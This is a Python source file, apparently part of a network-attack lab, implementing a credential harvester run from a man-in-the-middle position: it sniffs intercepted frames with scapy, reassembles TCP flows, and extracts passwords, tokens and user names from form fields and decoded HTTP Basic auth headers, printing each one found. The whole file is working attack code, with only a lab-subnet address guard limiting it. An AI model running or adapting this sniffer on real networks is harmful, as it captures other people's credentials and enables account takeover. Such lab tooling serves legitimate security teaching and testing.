"""A credential harvester over what crosses the attacker: form fields, HTTP Basic auth, a --grep text.

Run inside the attacker's lab host while it is on the path (arpspoof, mitm):
    python -m experiments.attacks.harvest --iface server2-eth0 --lab-net 10.0.1.0/24 --duration 10

It reads only frames sent to the attacker's MAC but addressed to another IP (what a man in the
middle receives), reassembles each TCP direction (bounded per flow and in flow count), and reports
each credential once per flow; TLS shows as records only. `Harvester` is also fed the plaintext a
transparent proxy (proxy.py) relays.
"""
from __future__ import annotations

import argparse
import base64
import re
import sys
import threading
from collections import OrderedDict
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any, Callable
from urllib.parse import unquote_plus

try:
    from experiments.attacks.events import EventLog, fail, stamp, stop_on_signals
    from experiments.attacks.guard import AddressGuard, GuardError
except ImportError:  # run by file path
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
    from experiments.attacks.events import EventLog, fail, stamp, stop_on_signals
    from experiments.attacks.guard import AddressGuard, GuardError
from weblab.core.wire import http_body, http_label, tls_header  # noqa: E402  (after the path is set)

SECRET_FIELDS = ("password", "passwd", "pass", "pwd", "secret", "token")
USER_FIELDS = ("username", "user", "login", "email")
_FIELD = re.compile(rb"(?:^|[&?\s])(" + b"|".join(f.encode() for f in SECRET_FIELDS + USER_FIELDS) +
                    rb")=([^&\s]{1,256})", re.IGNORECASE)
_BASIC = re.compile(rb"^Authorization:\s*Basic\s+([A-Za-z0-9+/=]{4,512})\s*$", re.IGNORECASE | re.MULTILINE)
MAX_FLOW_BYTES = 64 * 1024
MAX_FLOWS = 1024

Flow = tuple[str, int, str, int]  # src, sport, dst, dport


@dataclass(frozen=True)
class Match:
    """One credential (or --grep hit) found in bytes: what kind, which field, its value, where."""

    kind: str    # form | basic | grep
    field: str
    value: str
    offset: int

    def to_dict(self) -> dict[str, Any]:
        return asdict(self)


def find_credentials(data: bytes, grep: bytes | None = None) -> list[Match]:
    """Credentials in data: urlencoded secret/user fields, HTTP Basic auth, and the grep text."""
    out = []
    for m in _FIELD.finditer(data):
        out.append(Match("form", m.group(1).decode().lower(), unquote_plus(m.group(2).decode("latin-1")),
                         m.start(1)))
    for m in _BASIC.finditer(data):
        try:
            decoded = base64.b64decode(m.group(1), validate=True).decode("latin-1")
        except (ValueError, UnicodeDecodeError):
            continue
        user, _, secret = decoded.partition(":")
        out.append(Match("basic", user, secret, m.start()))
    if grep:
        at = data.find(grep)
        while at >= 0:
            out.append(Match("grep", grep.decode(errors="replace"), _around(data, at, len(grep)), at))
            at = data.find(grep, at + 1)
    return out


def secrets_of(matches: list[Match]) -> list[Match]:
    """The matches that are secrets (not user names)."""
    return [m for m in matches if m.kind in ("basic", "grep") or m.field in SECRET_FIELDS]


def describe(payload: bytes) -> str | None:
    """One line for an HTTP message or TLS record starting a TCP payload; None for other bytes."""
    label = http_label(payload)
    if label:
        body = http_body(payload)
        return f"HTTP {label}" + (f"  body: {_printable(body[:120])}" if body else "")
    header = tls_header(payload)
    if header is not None:
        return (f"TLS {header.content_type} record, {header.length} bytes"
                + (" (encrypted)" if header.content_type == "ApplicationData" else ""))
    return None


def _printable(data: bytes) -> str:
    return "".join(chr(b) if 32 <= b < 127 else "." for b in data)


def _around(data: bytes, at: int, n: int, ctx: int = 30) -> str:
    return _printable(data[max(0, at - ctx):at + n + ctx])


class Harvester:
    """Per-flow reassembly (bounded) and one report per credential per flow."""

    def __init__(self, grep: str | None = None, on_match: Callable[[Flow, Match, str], None] | None = None):
        self.grep = grep.encode() if grep else None
        self.on_match = on_match
        # per (flow, source): the wire's segments and a proxy's messages of one flow are separate streams
        self.flows: OrderedDict[tuple[Flow, str], bytearray] = OrderedDict()
        self.seen: dict[tuple[Flow, str], set[tuple[str, str, str]]] = {}
        self.lock = threading.Lock()
        self.found: list[tuple[Flow, Match, str]] = []

    def feed(self, flow: Flow, payload: bytes, source: str = "wire") -> list[Match]:
        """Add one segment's payload to its flow; the credentials newly found in the flow."""
        if not payload:
            return []
        key = (flow, source)
        with self.lock:
            buf = self.flows.pop(key, None)
            if buf is None:
                buf = bytearray()
                while len(self.flows) >= MAX_FLOWS:
                    old, _ = self.flows.popitem(last=False)
                    self.seen.pop(old, None)
            buf += payload
            del buf[:max(0, len(buf) - MAX_FLOW_BYTES)]
            self.flows[key] = buf
            seen = self.seen.setdefault(key, set())
            new = []
            for m in find_credentials(bytes(buf), self.grep):
                key = (m.kind, m.field, m.value)
                if key not in seen:
                    seen.add(key)
                    new.append(m)
                    self.found.append((flow, m, source))
        for m in new:
            if self.on_match:
                self.on_match(flow, m, source)
        return new


def flow_of(pkt: Any) -> tuple[Flow, bytes] | None:
    """(flow, payload) of an IPv4 TCP frame, else None."""
    from scapy.layers.inet import IP, TCP
    if IP not in pkt or TCP not in pkt:
        return None
    ip, tcp = pkt[IP], pkt[TCP]
    return (ip.src, int(tcp.sport), ip.dst, int(tcp.dport)), bytes(tcp.payload)


def intercepted_filter(my_mac: str, my_ip: str) -> str:
    """BPF for what a man in the middle receives: frames to its MAC, packets to another IP."""
    return f"ether dst {my_mac} and ip and not dst host {my_ip}"


class WireWatch:
    """Sniff intercepted frames, count them per flow, feed the harvester, print one line per message."""

    def __init__(self, iface: str, my_mac: str, my_ip: str, harvester: Harvester, log: EventLog,
                 only: set[str] | None = None):
        self.iface, self.harvester, self.log, self.only = iface, harvester, log, only
        self.bpf = intercepted_filter(my_mac, my_ip)
        self.packets = 0
        self.bytes = 0
        self.per_flow: dict[Flow, int] = {}
        self.sniffer: Any = None

    def on_packet(self, pkt: Any) -> None:
        got = flow_of(pkt)
        if got is None:
            return
        flow, payload = got
        if self.only and not {flow[0], flow[2]} <= self.only:
            return
        self.packets += 1
        self.bytes += len(pkt)
        first = flow not in self.per_flow
        self.per_flow[flow] = self.per_flow.get(flow, 0) + 1
        if first:
            self.log("flow", src=f"{flow[0]}:{flow[1]}", dst=f"{flow[2]}:{flow[3]}")
        what = describe(payload) if payload else None
        if what:
            self.log.say(f"{stamp(float(pkt.time))} {flow[0]}:{flow[1]} -> {flow[2]}:{flow[3]}  {what}")
            if what.startswith("HTTP "):
                self.log("http", src=f"{flow[0]}:{flow[1]}", dst=f"{flow[2]}:{flow[3]}", line=what[:200])
        self.harvester.feed(flow, payload)

    def start(self) -> "WireWatch":
        from scapy.all import AsyncSniffer
        self.sniffer = AsyncSniffer(iface=self.iface, filter=self.bpf, prn=self.on_packet, store=False)
        self.sniffer.start()
        return self

    def stop(self) -> None:
        if self.sniffer is not None and self.sniffer.running:
            self.sniffer.stop()
        self.log("intercepted", packets=self.packets, bytes=self.bytes, flows=len(self.per_flow))


def reporter(log: EventLog) -> Callable[[Flow, Match, str], None]:
    """The on_match of a harvester: an event and a line for people."""
    def report(flow: Flow, m: Match, source: str) -> None:
        log("credential", src=f"{flow[0]}:{flow[1]}", dst=f"{flow[2]}:{flow[3]}", source=source, **m.to_dict())
        log.say(f"  !! {m.kind.upper()} {m.field}={m.value!r}  ({flow[0]}:{flow[1]} -> {flow[2]}:{flow[3]}, {source})")
    return report


def main(argv: list[str] | None = None) -> int:
    """Harvest what crosses this host until --duration or a signal."""
    ap = argparse.ArgumentParser(prog="python -m experiments.attacks.harvest", description=__doc__.splitlines()[0])
    ap.add_argument("--iface", required=True)
    ap.add_argument("--lab-net", action="append", default=[], required=True)
    ap.add_argument("--duration", type=float, required=True)
    ap.add_argument("--grep", help="also report this text wherever it shows")
    ap.add_argument("--log", help="JSON-lines event log")
    a = ap.parse_args(argv)
    from experiments.attacks.arpspoof import check_duration, iface_addresses
    stream = open(a.log, "a", encoding="utf-8") if a.log else None
    log = EventLog(stream, sys.stdout)
    try:
        check_duration(a.duration)
        my_mac, my_ip, _ = iface_addresses(a.iface)
        AddressGuard(a.lab_net).check_own(my_ip, a.iface)
    except GuardError as err:
        return fail(str(err))
    stop = stop_on_signals()
    watch = WireWatch(a.iface, my_mac, my_ip, Harvester(a.grep, reporter(log)), log).start()
    try:
        stop.wait(a.duration)
    finally:
        watch.stop()
        if stream:
            stream.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
